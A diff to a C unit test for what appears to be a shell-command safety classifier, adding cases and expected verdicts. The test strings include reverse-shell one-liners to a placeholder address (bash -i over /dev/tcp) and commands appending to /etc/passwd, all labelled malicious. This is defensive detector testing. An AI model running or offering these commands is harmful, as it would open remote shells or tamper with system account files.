@@ -254,6 +254,10 @@ static void test_verdicts(void **state)
 		{"{ echo a; echo b; } >> /etc/passwd", VERDICT_MALICIOUS},
 		{"(echo a) >> /etc/passwd", VERDICT_MALICIOUS},
 		{"for i in 1 2; do echo $i; done >> /etc/passwd", VERDICT_MALICIOUS},
+		{"true && bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", VERDICT_MALICIOUS},
+		{": | bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 || true", VERDICT_MALICIOUS},
+		{"column ~", VERDICT_SUSPICIOUS}, /* a name without a slash, outside */
+		{"uniq ~root", VERDICT_SUSPICIOUS},
 		{"true && echo x > /dev/null", VERDICT_SAFE},
 		{"make | sort > out.txt", VERDICT_SAFE},
 	};
